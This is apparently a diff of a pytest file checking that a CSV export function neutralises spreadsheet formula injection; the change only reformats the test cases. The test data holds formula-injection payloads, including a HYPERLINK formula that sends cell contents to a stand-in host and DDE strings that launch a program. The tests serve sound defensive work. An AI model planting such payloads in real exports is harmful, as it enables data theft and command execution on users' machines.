@@ -1,5 +1,6 @@
 """Issue 10, smaller findings: safe exports. CSV cells cannot run as spreadsheet formulas,
 `init` never writes through a dangling symlink, no absolute seeds path reaches the PDF."""
+
 from __future__ import annotations
 
 import csv
@@ -16,17 +17,20 @@ sys.path.insert(0, str(Path(__file__).parent))
 from test_tables import briefing, row  # noqa: E402
 
 
-@pytest.mark.parametrize("cell, safe", [
-    ('=HYPERLINK("http://x.example/?"&A1,"Click")', '\'=HYPERLINK("http://x.example/?"&A1,"Click")'),
-    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
-    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
-    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
-    ("\t=1+1", "'\t=1+1"),
-    ("-3300000000", "-3300000000"),
-    ("-12.50", "-12.50"),
-    ("a.txt", "a.txt"),
-    ("", ""),
-])
+@pytest.mark.parametrize(
+    "cell, safe",
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"Click")', '\'=HYPERLINK("http://x.example/?"&A1,"Click")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("-3300000000", "-3300000000"),
+        ("-12.50", "-12.50"),
+        ("a.txt", "a.txt"),
+        ("", ""),
+    ],
+)
 def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(cell, safe):
     assert csv_safe(cell) == safe
 
